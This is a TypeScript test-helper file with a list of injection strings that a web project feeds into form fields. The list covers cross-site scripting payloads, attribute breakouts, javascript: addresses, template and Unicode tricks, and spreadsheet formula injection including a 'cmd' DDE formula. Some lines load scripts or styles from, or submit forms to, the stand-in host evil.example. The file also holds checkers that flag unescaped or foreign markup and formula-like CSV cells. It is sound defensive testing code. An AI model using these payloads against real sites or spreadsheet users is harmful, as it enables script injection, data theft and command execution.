/** What somebody may write into a field so that a page, a browser or a spreadsheet program does what they want. Each has a mark of its own, by which it is found again. */

const MARKS = 'bcdfghjklmnpqrstvwz'
/** The nth string's own mark: letters alone, so that it may stand in names. */
const markOf = (n: number): string => `Zq${MARKS[Math.floor(n / MARKS.length)]}${MARKS[n % MARKS.length]}x`

const HIT = 'window.__hit=1'

const FORMS: readonly string[] = [
  // Elements that run something
  `<script>${HIT}</script>`,
  `</script><script>${HIT}//`,
  `<ScRiPt >${HIT}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${HIT}>`,
  `"><img src=x onerror="${HIT}">`,
  `'><img src=x onerror='${HIT}'>`,
  `<svg onload=${HIT}>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=9>x</text></a></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${HIT}>x`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<video><source onerror=${HIT}></video>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<form action=//evil.example/><input name=password autofocus onfocus=${HIT}>`,
  `<b style="position:fixed;inset:0">`,
  `<!--`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `</option></select><script>${HIT}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  // Attributes that are broken out of
  `" onfocus="${HIT}" autofocus="`,
  `' onmouseover='${HIT}`,
  '` onclick=`window.__hit=1',
  `x onerror=${HIT} y=`,
  `" style="display:none" class="tag good`,
  // Addresses
  `javascript:${HIT}`,
  `JaVaScRiPt&colon;${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `//evil.example/`,
  // What stands for a letter, and templates
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `&amp;quot;&quot; &nbsp;&notit;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  '{{constructor.constructor("window.__hit=1")()}}',
  `\${${HIT}}`,
  '<%= 7*7 %> #{7*7} {7*7}',
  '$& $1 $` %s %d {0}',
  // Marks that turn or hide what is written
  '\u202egnp.exe\u202c',
  '\u200b\u200d\u2060\ufeff',
  'a\u0300\u0301\u0302\u0303\u0304',
  '\u2028window.__hit=1\u2029',
  '\u0000<script>window.__hit=1</script>',
  '\u001b[31m\u0007\u0008',
  // What a spreadsheet program would reckon
  '=HYPERLINK("https://evil.example/","x")',
  "=cmd|'/C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  ' \u200b=1+1',
  ';=1+1;"',
  ',"=1+1",',
  // What breaks a page by its length
  'W'.repeat(120),
  'а́'.repeat(60),
]

/** The strings; each ends with its mark. */
export const INJECTIONS: readonly string[] = FORMS.map((form, n) => `${form}${markOf(n)}`)

/** Their marks that stand in a text. */
export const marksIn = (text: string): ReadonlySet<string> => new Set(text.match(/Zq[b-z]{2}x/g) ?? [])

export const markIn = (text: string): string => text.slice(-5)

const COMMON = ['id', 'class', 'lang', 'dir', 'role', 'tabindex', 'hidden', 'title']
/** Every element that our views write, with its attributes beside those of any element and aria-…. */
const ELEMENTS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'head title body header main nav footer section article search h1 h2 h3 h4 p div span b strong em small sub br hr ul ol dl dt dd table caption thead tbody tfoot tr summary code pre kbd legend defs g'
      .split(' ')
      .map((name) => [name, []]),
  ),
  html: [],
  meta: ['charset', 'name', 'content'],
  link: ['rel', 'href'],
  script: ['src', 'defer'],
  a: ['href', 'hreflang', 'rel', 'download', 'accesskey'],
  li: ['value'],
  th: ['scope', 'colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  time: ['datetime'],
  details: ['open'],
  form: ['method', 'action', 'enctype', 'novalidate', 'data-once'],
  label: ['for'],
  fieldset: [],
  input: ['type', 'name', 'value', 'checked', 'required', 'disabled', 'autocomplete', 'spellcheck', 'inputmode', 'maxlength', 'autocapitalize', 'accept'],
  textarea: ['name', 'rows', 'required', 'maxlength', 'spellcheck', 'autocomplete'],
  select: ['name', 'required', 'disabled'],
  option: ['value', 'selected', 'disabled'],
  button: ['type', 'name', 'value', 'disabled', 'accesskey'],
  progress: ['value', 'max'],
  svg: ['viewbox', 'viewBox', 'width', 'height', 'xmlns', 'focusable', 'preserveAspectRatio'],
  path: ['d', 'fill', 'stroke', 'shape-rendering'],
  rect: ['x', 'y', 'width', 'height', 'fill', 'rx'],
  line: ['x1', 'x2', 'y1', 'y2', 'stroke'],
  text: ['x', 'y', 'text-anchor', 'fill', 'font-size'],
}

const TAG = /^<(\/?)([a-z][a-z0-9]*)((?: [A-Za-z][\w-]*(?:="[^"<>]*")?)*) ?\/?>/
const ADDRESS = /^(\/(?![/\\])|#|\?|mailto:|tel:)/

/**
 * Whatever on a page is no element, attribute or address of our views: what somebody wrote into a field must be text, and nothing else. `isFile`: a page that is kept
 * as a file has its styles with it.
 */
export function foreignTo(html: string, isFile = false): readonly string[] {
  const faults: string[] = []
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    const rest = html.slice(at, at + 20_000)
    if (at === 0 && /^<!doctype html>/i.test(rest)) continue
    const [, , name = '', attributes = ''] = TAG.exec(rest) ?? []
    const allowed = isFile && name === 'style' ? [] : ELEMENTS[name]
    if (allowed === undefined) faults.push(`no element of ours: ${rest.slice(0, 120)}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([A-Za-z][\w-]*)(?:="([^"]*)")?/g)) {
      if (![...COMMON, ...(allowed ?? [])].includes(attribute) && !/^(aria|data)-[a-z-]+$/.test(attribute)) faults.push(`<${name} ${attribute}="${value}">`)
      if (['href', 'src', 'action'].includes(attribute) && !ADDRESS.test(value)) faults.push(`<${name} ${attribute}="${value}">`)
    }
  }
  for (const one of INJECTIONS) if (/[<>"'&]/.test(one) && html.includes(one)) faults.push(`not escaped: ${one}`)
  return faults
}

const FORMULA = /^[\s\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/

/** Cells that a spreadsheet program would take for a formula; numbers are none. */
export const formulasIn = (rows: ReadonlyArray<readonly string[]>): readonly string[] =>
  rows.flat().filter((cell) => FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
